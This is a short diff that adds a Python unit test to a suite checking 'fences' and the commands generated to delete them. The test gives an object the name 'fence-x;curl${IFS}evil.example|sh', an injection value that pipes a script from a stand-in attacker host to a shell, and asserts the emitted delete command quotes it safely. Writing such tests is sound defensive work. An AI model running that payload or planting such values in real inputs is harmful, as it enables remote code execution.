@@ -144,6 +144,14 @@ def test_what_an_earlier_policy_left_is_named() -> None:
     assert checks(objects) == ["fence-gone: fence-left-over"]
 
 
+def test_the_name_of_a_fence_is_one_word_of_the_command_to_delete_it() -> None:
+    objects = applied(name="gone")
+    for one in objects:
+        one["metadata"]["name"] = "fence-x;curl${IFS}evil.example|sh"
+    (_, report) = examine_fences(fence_documents([*applied(), *objects]), FENCES)
+    assert report.diagnoses[0].cure.endswith(" 'fence-x;curl${IFS}evil.example|sh'")
+
+
 def test_a_missing_lease_that_is_allowed_denies_nothing() -> None:
     fences = [made_fence(missing_lease="allow")]
     lease = {**LEASE, "metadata": {"name": "x", "namespace": "shop"}}
